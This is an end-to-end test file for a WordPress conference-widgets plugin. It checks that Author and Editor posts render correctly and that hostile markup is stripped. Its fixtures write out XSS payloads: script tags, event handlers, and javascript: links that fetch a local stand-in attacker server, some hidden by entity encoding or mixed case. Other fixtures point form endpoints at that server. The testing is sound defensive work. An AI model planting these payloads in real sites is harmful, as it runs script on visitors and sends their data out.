/**
 * The WordPress plugin for real: Debian's WordPress and MariaDB (test/e2e/wordpress-stack.ts),
 * the plugin installed from its ZIP, an Author (no `unfiltered_html`) who saves a post with a raw
 * `<conf-schedule>`, a shortcode and the block through the REST API with an application password,
 * and the published post in headless Chromium with its data from `npm start`'s proxy.
 * Then what a hostile Author or Editor tries (a `javascript:` href-pattern, a form or kiosk pointed
 * at their own server; as a raw tag, with an entity, as a shortcode and as the block): no
 * `javascript:` link in the page, and the trap server they named receives nothing.
 * Screenshots: `.tmp/screenshots/wordpress-*.png`.
 */
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { startDemo, type StartedDemo } from '../../scripts/demo-server.js';
import { onePagePdf } from '../pdf-fixture.js';
import { skippable } from '../skippable.js';
import { chromiumPath, ensureBundle, launchChromium, NO_CHROMIUM, waitForElements, watchPage } from './browser.js';
import { logIn, startWordPress, type WordPress, wordPressMissing } from './wordpress-stack.js';

const SHOTS = '.tmp/screenshots';
const skip = !chromiumPath() ? NO_CHROMIUM : (wordPressMissing() ?? false);
const { after, before, describe, test } = skippable(skip);
if (skip) console.log(`# ${skip}`);

/** The theme's content width (Twenty Twenty-Three's theme.json: contentSize). */
const CONTENT_WIDTH = 650;
const PREFILL_EMAIL = 'ada@example.org';

/**
 * What the Author writes: a Custom HTML block with a raw grid (wide by the theme's own class) and
 * what a hostile paste adds; a shortcode form with a prefilled field; the block, full width.
 */
const POST_CONTENT = [
  '<!-- wp:paragraph --><p>Our programme.</p><!-- /wp:paragraph -->',
  '<!-- wp:html -->',
  '<conf-schedule view="grid" class="alignwide" onerror="document.title=\'stolen\'" style="display:none"></conf-schedule>',
  '<p><script>document.title = "stolen"</script><img src="x" alt="" onerror="document.title=\'stolen\'"></p>',
  `<conf-registration-form data-prefill-email="${PREFILL_EMAIL}" onclick="document.title='stolen'"></conf-registration-form>`,
  '<!-- /wp:html -->',
  '<!-- wp:shortcode -->[conf_exhibit_form data-prefill-title="Rocket engines" onmouseover="alert(1)" types="sponsor:Sponsor,startup:Start-up"]<!-- /wp:shortcode -->',
  '<!-- wp:conf-widgets/element {"element":"conf-speakers","align":"full"} /-->',
  '<!-- wp:shortcode -->[conf_page slug="about" show-conference]<!-- /wp:shortcode -->',
].join('\n');

/**
 * What a hostile post holds, each way a post can say it: site navigations whose links would run
 * script (`fetch` to the trap, so a run is seen there), and a registration form, a provider and a
 * kiosk that would send the visitor's data, or load the decoder, from the trap.
 */
function hostileContent(trap: string): string {
  const run = (how: string) => `javascript:fetch('${trap}/ran-${how}')//{slug}`;
  const block = (attributes: Record<string, string>) =>
    `<!-- wp:conf-widgets/element ${JSON.stringify(attributes)} /-->`;
  return [
    '<!-- wp:html -->',
    `<conf-site-nav href-pattern="${run('tag')}"></conf-site-nav>`,
    `<conf-site-nav href-pattern="${run('entity').replace('javascript:', 'jav&#x61;script:')}"></conf-site-nav>`,
    `<conf-site-nav href-pattern="${run('mixed-case').replace('javascript:', ' JaVaScRiPt&colon;')}"></conf-site-nav>`,
    `<conf-registration-form endpoint="${trap}" data-prefill-email="tag@example.org"></conf-registration-form>`,
    `<conf-provider endpoint="${trap}"><conf-registration-form></conf-registration-form></conf-provider>`,
    `<conf-checkin decoder-wasm="${trap}/zxing_reader.wasm" endpoint="${trap}"></conf-checkin>`,
    '<!-- /wp:html -->',
    `<!-- wp:shortcode -->[conf_site_nav href-pattern="${run('shortcode')}"]<!-- /wp:shortcode -->`,
    `<!-- wp:shortcode -->[conf_site_nav href-pattern="${run('shortcode-entity').replace('javascript:', 'jav&#x61;script:')}"]<!-- /wp:shortcode -->`,
    `<!-- wp:shortcode -->[conf_registration_form endpoint="${trap}"]<!-- /wp:shortcode -->`,
    `<!-- wp:shortcode -->[conf_checkin decoder-wasm="${trap}/zxing_reader.wasm"]<!-- /wp:shortcode -->`,
    block({ element: 'conf-site-nav', 'href-pattern': run('block') }),
    block({ element: 'conf-site-nav', 'href-pattern': run('block-entity').replace('javascript:', 'jav&#x61;script:') }),
    block({ element: 'conf-registration-form', endpoint: trap }),
  ].join('\n');
}

/** The attacker's server: answers everything (CORS open, as theirs would be) and remembers each request. */
async function startTrap(): Promise<{ url: string; requests: string[]; close: () => Promise<void> }> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(204, {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'access-control-allow-methods': '*',
    });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** The conf-* start tags of some markup (shortcodes and block comments are not tags). */
const confTags = (html: string): string[] => html.match(/<conf-[^>]*>/gi) ?? [];

describe("WordPress plugin: an Author's post in Chromium", () => {
  let demo: StartedDemo;
  let wp: WordPress;
  let browser: Browser;
  let trap: Awaited<ReturnType<typeof startTrap>>;
  let postId = 0;
  let postLink = '';

  before(async () => {
    ensureBundle();
    mkdirSync(SHOTS, { recursive: true });
    wp = await startWordPress(async (siteOrigin) => {
      demo = await startDemo({ port: 0, allowedOrigins: [siteOrigin], proxy: { logger: () => {} } });
      return demo.url;
    });
    console.log(`# WordPress ${wp.version}, theme ${wp.theme}, at ${wp.url}; proxy at ${demo.url}`);
    browser = await launchChromium();
    trap = await startTrap();
  });
  after(async () => {
    await trap?.close();
    await browser?.close();
    await wp?.close();
    await demo?.close();
  });

  /** The REST API as a user, with their application password. */
  function asUser(user: string, appPassword: string, route: string, init: RequestInit = {}): Promise<Response> {
    const auth = Buffer.from(`${user}:${appPassword}`).toString('base64');
    return fetch(`${wp.url}/?rest_route=${route}`, {
      ...init,
      headers: { authorization: `Basic ${auth}`, 'content-type': 'application/json', ...init.headers },
    });
  }
  const asAuthor = (route: string, init: RequestInit = {}) => asUser(wp.author, wp.authorAppPassword, route, init);
  const asEditor = (route: string, init: RequestInit = {}) => asUser(wp.editor, wp.editorAppPassword, route, init);

  /** Publishes `content` as a user; the post's link and its stored and rendered content. */
  async function publish(
    as: typeof asAuthor,
    title: string,
    content: string,
  ): Promise<{ link: string; raw: string; rendered: string }> {
    const res = await as('/wp/v2/posts', {
      method: 'POST',
      body: JSON.stringify({ title, status: 'publish', content }),
    });
    const created = (await res.json()) as { id: number; link: string };
    assert.equal(res.status, 201, JSON.stringify(created));
    const stored = (await (await as(`/wp/v2/posts/${created.id}&context=edit`)).json()) as {
      content: { raw: string; rendered: string };
    };
    return { link: created.link, raw: stored.content.raw, rendered: stored.content.rendered };
  }

  /** What no rendered post may hold, whoever wrote it. */
  function assertNothingHostileRendered(html: string): void {
    const tags = confTags(html);
    assert.ok(tags.length >= 10, `the post's conf-* tags are rendered: ${tags.length}`);
    for (const tag of tags) {
      assert.doesNotMatch(tag, /\sendpoint\s*=|\sdecoder-wasm\s*=/i, `no post chooses where data goes: ${tag}`);
      assert.doesNotMatch(tag, /javascript|jav&#x61;script|&colon;/i, `no script address: ${tag}`);
    }
    assert.ok(!html.includes(trap.url), `the trap's address is nowhere in the page`);
  }

  /**
   * The hostile post in Chromium: every navigation shows its pages, none as a `javascript:` link;
   * clicking the first entry of each runs nothing; every element talks to the site's proxy only.
   */
  async function checkHostilePostInChromium(link: string, name: string): Promise<void> {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-US' });
    try {
      const page = await context.newPage();
      const requests: string[] = [];
      page.on('request', (r) => requests.push(r.url()));
      await page.goto(link, { waitUntil: 'load' });
      const navCount = await page.locator('conf-site-nav').count();
      assert.equal(navCount, 7, 'the seven site navigations are on the page');
      await page.waitForFunction(
        () =>
          [...document.querySelectorAll('conf-site-nav')].every(
            (n) => (n.shadowRoot?.querySelectorAll('[part~="link"]').length ?? 0) > 0,
          ),
        null,
        { timeout: 60_000 },
      );
      // Every element's chunk loaded, so each reports the proxy it uses.
      await page.waitForFunction(
        () =>
          [...document.querySelectorAll('*')]
            .filter((e) => e.localName.startsWith('conf-'))
            .every((e) => customElements.get(e.localName)),
        null,
        { timeout: 60_000 },
      );
      await page.screenshot({ path: `${SHOTS}/wordpress-hostile-${name}.png`, fullPage: true });
      const links = await page.evaluate(() =>
        [...document.querySelectorAll('conf-site-nav')].map((n) =>
          [...(n.shadowRoot?.querySelectorAll('a') ?? [])].map((a) => ({
            href: a.getAttribute('href'),
            protocol: a.href ? a.protocol : null,
          })),
        ),
      );
      for (const nav of links) {
        for (const a of nav) {
          assert.doesNotMatch(a.href ?? '', /^\s*javascript/i);
          if (a.protocol !== null)
            assert.ok(a.protocol === 'http:' || a.protocol === 'https:', `a link is http(s): ${JSON.stringify(a)}`);
        }
      }
      const scriptLinks = await page.evaluate(() =>
        [...document.querySelectorAll('conf-site-nav')].reduce(
          (n, nav) => n + (nav.shadowRoot?.querySelectorAll('a[href^="javascript" i]').length ?? 0),
          0,
        ),
      );
      assert.equal(scriptLinks, 0, 'no a[href^=javascript] in any navigation');
      const endpoints = await page.evaluate(() => ({
        attributes: document.querySelectorAll('[endpoint], [decoder-wasm]').length,
        used: [
          ...new Set(
            [...document.querySelectorAll('*')]
              .filter((e) => e.localName.startsWith('conf-') && 'resolvedEndpoint' in e)
              .map((e) => (e as unknown as { resolvedEndpoint: { url: string } }).resolvedEndpoint.url),
          ),
        ],
      }));
      assert.deepEqual(endpoints, { attributes: 0, used: [demo.url] }, "every element uses the site's proxy");

      // A visitor (the site's administrator, say) clicks the first entry of each navigation. A
      // click on an http(s) link is held back, so the page stays; any other link would run.
      await page.evaluate(() =>
        addEventListener(
          'click',
          (e) => {
            const a = (e.composedPath()[0] as Element).closest?.('a');
            if (a?.href && /^https?:$/.test(a.protocol)) e.preventDefault();
          },
          true,
        ),
      );
      for (let i = 0; i < navCount; i++) {
        const entry = page.locator('conf-site-nav').nth(i).locator('[part~="link"]').first();
        await entry.scrollIntoViewIfNeeded();
        await entry.click();
      }
      // What a click ran would have fetched the trap by now; give it a moment under load.
      await page.waitForTimeout(1000);
      assert.equal(page.url(), link, 'the page stayed');
      assert.deepEqual(trap.requests, [], 'no script ran: the trap heard nothing');
      assert.deepEqual(
        requests.filter((u) => u.startsWith(trap.url)),
        [],
        'the browser sent nothing to the trap',
      );
    } finally {
      await context.close();
    }
  }

  test("the setup stored the pasted script URL as the proxy's base URL", () => {
    assert.equal(wp.storedProxyUrl, demo.url);
  });

  test('an Author publishes through the REST API: the conf-* tags and documented attributes stay, script and event handlers go', async () => {
    const me = await asAuthor('/wp/v2/users/me&context=edit');
    assert.equal(me.status, 200, await me.clone().text());
    const roles = ((await me.json()) as { roles: string[] }).roles;
    assert.deepEqual(roles, ['author'], 'an Author, who has no unfiltered_html');

    const res = await asAuthor('/wp/v2/posts', {
      method: 'POST',
      body: JSON.stringify({ title: 'Programme', status: 'publish', content: POST_CONTENT }),
    });
    const created = (await res.json()) as { id: number; status: string; link: string };
    assert.equal(res.status, 201, JSON.stringify(created));
    assert.equal(created.status, 'publish');
    postId = created.id;
    postLink = created.link;

    const stored = await asAuthor(`/wp/v2/posts/${postId}&context=edit`);
    const { content } = (await stored.json()) as { content: { raw: string; rendered: string } };
    assert.match(content.raw, /<conf-schedule view="grid" class="alignwide"><\/conf-schedule>/);
    assert.match(
      content.raw,
      new RegExp(`<conf-registration-form data-prefill-email="${PREFILL_EMAIL}"></conf-registration-form>`),
    );
    assert.match(content.raw, /\[conf_exhibit_form /);
    assert.match(content.raw, /<!-- wp:conf-widgets\/element \{"element":"conf-speakers","align":"full"\} \/-->/);
    assert.doesNotMatch(
      content.raw,
      /<script|onerror|onclick|style=/i,
      'script, event handlers and style stripped from what is stored',
    );
    // The shortcode's text is stored as written; its output drops what the element does not document.
    assert.match(
      content.rendered,
      /<conf-exhibit-form data-prefill-title="Rocket engines" types="sponsor:Sponsor,startup:Start-up"><\/conf-exhibit-form>/,
    );
    assert.match(
      content.rendered,
      /<conf-page slug="about" show-conference><\/conf-page>/,
      'a bare word is a boolean attribute',
    );
    assert.doesNotMatch(content.rendered, /<script|onerror|onclick|onmouseover/i);
  });

  test('the published post: every element shows data from the proxy, the loader once as a module, wide and full widths kept', async () => {
    assert.ok(postLink, 'the post was published (previous test)');
    const context = await browser.newContext({
      viewport: { width: 1440, height: 900 },
      deviceScaleFactor: 1,
      locale: 'en-US',
    });
    try {
      const page = await context.newPage();
      const problems = watchPage(page);
      const res = await page.goto(postLink, { waitUntil: 'load' });
      assert.equal(res?.status(), 200);
      const report = await waitForElements(page, 60_000);
      await page.waitForLoadState('networkidle');
      await page.screenshot({ path: `${SHOTS}/wordpress-post-1440.png`, fullPage: true });
      assert.deepEqual(report.map((r) => r.tag).sort(), [
        'conf-exhibit-form',
        'conf-page',
        'conf-registration-form',
        'conf-schedule',
        'conf-speakers',
      ]);
      assert.deepEqual(
        report.filter((r) => !r.ready).map((r) => `<${r.tag}>: ${r.text}`),
        [],
        `every element shows its data (${problems.join('; ')})`,
      );

      const loaders = await page.$$eval('script[src*="conf-widgets.js"]', (s) =>
        s.map((e) => ({ src: e.getAttribute('src'), type: e.getAttribute('type') })),
      );
      assert.deepEqual(loaders, [{ src: `${demo.url}/conf-widgets.js`, type: 'module' }]);

      const schedule = await page.evaluate(() => {
        const el = document.querySelector('conf-schedule');
        const root = el?.shadowRoot;
        return {
          width: el?.getBoundingClientRect().width ?? 0,
          // The grid's rooms are its column headers; events are its buttons/links with a time.
          text: root?.textContent?.replace(/\s+/g, ' ') ?? '',
        };
      });
      assert.ok(
        schedule.width > CONTENT_WIDTH + 300,
        `the grid takes the theme's wide width, not its ${CONTENT_WIDTH} px content width: ${schedule.width} px`,
      );
      assert.match(schedule.text, /\d{1,2}:\d{2}/, 'the schedule shows events with times');

      const speakers = await page.$eval('conf-speakers', (e) => e.getBoundingClientRect().width);
      assert.ok(speakers >= 1400, `the full-width block spans the window: ${speakers} px`);

      const email = await page.$eval(
        'conf-registration-form',
        (e) => (e.shadowRoot?.querySelector('input[type="email"]') as HTMLInputElement | null)?.value ?? null,
      );
      assert.equal(email, PREFILL_EMAIL, 'data-prefill-email survived and prefilled the form');
      const title = await page.$eval('conf-exhibit-form', (e) =>
        [...(e.shadowRoot?.querySelectorAll('input') ?? [])]
          .map((i) => (i as HTMLInputElement).value)
          .includes('Rocket engines'),
      );
      assert.ok(title, 'the shortcode passed data-prefill-title to the exhibit form');
      assert.notEqual(await page.title(), 'stolen');

      // A form fills the content width as a list does (no narrower 40em of its own).
      const formDefault = await page.$eval('conf-exhibit-form', (e) => e.getBoundingClientRect().width);
      assert.ok(
        Math.abs(formDefault - CONTENT_WIDTH) < 2,
        `the shortcode's form takes the theme's ${CONTENT_WIDTH} px content width: ${formDefault} px`,
      );

      // An organizer's wider form (Additional CSS): the theme's content width must not cap it.
      await page.addStyleTag({ content: ':root { --conf-form-max-width: 60em; }' });
      const form = await page.$eval('conf-exhibit-form', (e) => e.getBoundingClientRect().width);
      assert.ok(
        Math.abs(form - 960) < 2,
        `the shortcode's form is 60em (960 px) wide, not the theme's ${CONTENT_WIDTH} px: ${form} px`,
      );

      assert.deepEqual(problems, [], 'no console errors or failed requests');
    } finally {
      await context.close();
    }
  });

  test('the post at phone width (screenshot)', async () => {
    assert.ok(postLink, 'the post was published');
    const context = await browser.newContext({
      viewport: { width: 375, height: 812 },
      deviceScaleFactor: 1,
      locale: 'en-US',
    });
    try {
      const page = await context.newPage();
      await page.goto(postLink, { waitUntil: 'load' });
      const report = await waitForElements(page, 60_000);
      await page.screenshot({ path: `${SHOTS}/wordpress-post-375.png`, fullPage: true });
      assert.deepEqual(
        report.filter((r) => !r.ready).map((r) => `<${r.tag}>: ${r.text}`),
        [],
      );
      const overflow = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      assert.ok(overflow <= 0, `no sideways scrolling: ${overflow} px`);
    } finally {
      await context.close();
    }
  });

  test('a post without an element loads neither the loader nor the stylesheet', async () => {
    const res = await fetch(`${wp.url}/?p=1`);
    assert.equal(res.status, 200);
    const html = await res.text();
    assert.match(html, /Hello world/);
    assert.doesNotMatch(html, /conf-widgets/);
  });

  test('Settings → Conference widgets: a wrong URL is refused saying why; a URL is stored normalized', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    try {
      const page = await logIn(wp, context, wp.admin);
      const settings = `${wp.url}/wp-admin/options-general.php?page=conf-widgets`;
      const save = async (value: string) => {
        await page.goto(settings);
        await page.fill('#conf_widgets_proxy_url', value);
        await Promise.all([page.waitForURL(/options-general\.php\?page=conf-widgets/), page.click('#submit')]);
        return page.inputValue('#conf_widgets_proxy_url');
      };
      assert.equal(await page.goto(settings).then(() => page.inputValue('#conf_widgets_proxy_url')), demo.url);
      assert.equal(await save('javascript:alert(1)'), demo.url, 'refused: the stored URL stays');
      assert.match(await page.locator('.notice-error, .error').first().innerText(), /is not the address of a proxy/);
      assert.equal(await save('https://proxy.example.org/'), 'https://proxy.example.org');
      await page.screenshot({ path: `${SHOTS}/wordpress-settings.png` });
      assert.equal(await save(`${demo.url}/conf-widgets.js`), demo.url);

      // The Author may not open it (manage_options).
      const author = await logIn(wp, await browser.newContext(), wp.author);
      const res = await author.goto(settings);
      assert.equal(res?.status(), 403);
      await author.context().close();
    } finally {
      await context.close();
    }
  });

  test('the block in the editor: the element and its main attributes in the sidebar', async () => {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    try {
      const page = await logIn(wp, context, wp.author);
      const problems = watchPage(page);
      await page.goto(`${wp.url}/wp-admin/post-new.php`);
      await page.waitForFunction(
        () =>
          Boolean(
            (window as unknown as { wp?: { blocks?: { getBlockType(n: string): unknown } } }).wp?.blocks?.getBlockType(
              'conf-widgets/element',
            ),
          ),
        null,
        { timeout: 60_000 },
      );
      await page.evaluate(() => {
        // eslint-disable-next-line @typescript-eslint/no-explicit-any -- WordPress's editor globals (wp.data, wp.blocks) have no types in this project.
        const wpg = (window as any).wp;
        wpg.data.dispatch('core/edit-post').toggleFeature?.('welcomeGuide');
        const block = wpg.blocks.createBlock('conf-widgets/element', { element: 'conf-schedule' });
        wpg.data.dispatch('core/block-editor').insertBlocks(block);
        wpg.data.dispatch('core/block-editor').selectBlock(block.clientId);
        wpg.data.dispatch('core/edit-post').openGeneralSidebar('edit-post/block');
      });
      const view = page.getByLabel('View', { exact: true });
      await view.waitFor({ timeout: 30_000 });
      await view.selectOption('grid');
      await page.getByText('<conf-schedule view="grid">').waitFor({ timeout: 10_000 });
      await page.screenshot({ path: `${SHOTS}/wordpress-editor.png` });
      const attributes = await page.evaluate(() => {
        // eslint-disable-next-line @typescript-eslint/no-explicit-any -- as above.
        const wpg = (window as any).wp;
        const [block] = wpg.data.select('core/block-editor').getBlocks() as {
          name: string;
          attributes: Record<string, string>;
        }[];
        return block
          ? { name: block.name, element: block.attributes['element'], view: block.attributes['view'] }
          : null;
      });
      assert.deepEqual(attributes, { name: 'conf-widgets/element', element: 'conf-schedule', view: 'grid' });
      // WordPress's own editor fetches what this offline site cannot give it (the welcome guide's
      // pictures from s.w.org, the theme's templates an Author may not edit); the block adds nothing.
      const ours = problems.filter((p) => p.startsWith('uncaught:') || /conf-widgets|conf_widgets/.test(p));
      assert.deepEqual(ours, [], 'no error from the block in the editor');
    } finally {
      await context.close();
    }
  });

  test('an Author cannot make a javascript: link (tag, entity, shortcode, block): kses and the plugin drop it, the element would refuse it', async () => {
    const { link, raw, rendered } = await publish(asAuthor, 'Hostile by an Author', hostileContent(trap.url));
    // kses (the plugin's rules) already stripped the raw tags of what an Author may not set.
    for (const tag of confTags(raw)) {
      assert.doesNotMatch(tag, /\sendpoint\s*=|\sdecoder-wasm\s*=/i, `stored: ${tag}`);
      assert.doesNotMatch(tag, /javascript|jav&#x61;script|&colon;/i, `stored: ${tag}`);
    }
    assertNothingHostileRendered(rendered);
    assertNothingHostileRendered(await (await fetch(link)).text());
    await checkHostilePostInChromium(link, 'author');
  });

  test("an Author cannot send a form's data elsewhere: endpoint and decoder-wasm never reach the page, and a registration goes to the site's proxy", async () => {
    const { link } = await publish(
      asAuthor,
      'Register (hostile)',
      [
        '<!-- wp:html -->',
        `<conf-registration-form endpoint="${trap.url}"></conf-registration-form>`,
        '<!-- /wp:html -->',
        `<!-- wp:shortcode -->[conf_checkin decoder-wasm="${trap.url}/zxing_reader.wasm"]<!-- /wp:shortcode -->`,
      ].join('\n'),
    );
    const html = await (await fetch(link)).text();
    assert.ok(!html.includes(trap.url), "the trap's address is not in the page");
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-US' });
    try {
      const page = await context.newPage();
      const posts: string[] = [];
      page.on('request', (r) => {
        if (r.method() !== 'GET' && r.method() !== 'OPTIONS') posts.push(new URL(r.url()).origin);
      });
      await page.goto(link, { waitUntil: 'load' });
      const form = 'conf-registration-form';
      const field = (name: string) => page.locator(`${form} [name="${name}"]`);
      await field('email').waitFor({ timeout: 60_000 });
      await field('firstName').fill('Grace');
      await field('lastName').fill('Hopper');
      await field('email').fill('grace@example.org');
      await field('ticketTypeId').selectOption({ index: 1 });
      for (const name of ['custom.organization']) if (await field(name).count()) await field(name).fill('Navy');
      if (await field('custom.tshirt_size').count()) await field('custom.tshirt_size').selectOption({ index: 1 });
      await field('paymentMethodId').selectOption({ index: 1 });
      if (await field('paymentReference').count()) await field('paymentReference').fill('TX-GRACE');
      await page
        .locator(`${form} input[type="file"]`)
        .setInputFiles({ name: 'receipt.pdf', mimeType: 'application/pdf', buffer: onePagePdf('Transfer receipt') });
      await page.locator(`${form} [part~="upload-done"]`).waitFor({ timeout: 60_000 });
      await page.locator(`${form} [part~="submit-button"]`).click();
      await page.locator(`${form} [part~="success"]`).waitFor({ timeout: 60_000 });
      assert.ok(posts.length >= 2, `the upload and the registration were sent: ${posts.join(', ')}`);
      assert.deepEqual([...new Set(posts)], [demo.url], "every write went to the site's proxy");
      assert.deepEqual(trap.requests, [], 'the trap received nothing');
    } finally {
      await context.close();
    }
  });

  test('an Editor, who may save raw HTML, gets the same page: the plugin drops endpoint, decoder-wasm and script addresses when it renders', async () => {
    const me = (await (await asEditor('/wp/v2/users/me&context=edit')).json()) as { roles: string[] };
    assert.deepEqual(me.roles, ['editor']);
    console.log(`# an Editor has unfiltered_html on this single site: ${wp.editorUnfilteredHtml}`);
    const { link, raw, rendered } = await publish(asEditor, 'Hostile by an Editor', hostileContent(trap.url));
    if (wp.editorUnfilteredHtml) {
      // kses did not run: the raw tags are stored as written, so only the plugin's rendering stands between them and the page.
      assert.match(raw, new RegExp(`endpoint="${trap.url}"`));
      assert.match(raw, /href-pattern="javascript:/);
    }
    assertNothingHostileRendered(rendered);
    assertNothingHostileRendered(await (await fetch(link)).text());
    await checkHostilePostInChromium(link, 'editor');
  });

  test('no PHP warning or notice from the plugin', () => {
    const lines = wp
      .debugLog()
      .split('\n')
      .filter((l) => l.includes('/plugins/conf-widgets/'));
    assert.deepEqual(lines, []);
  });
});
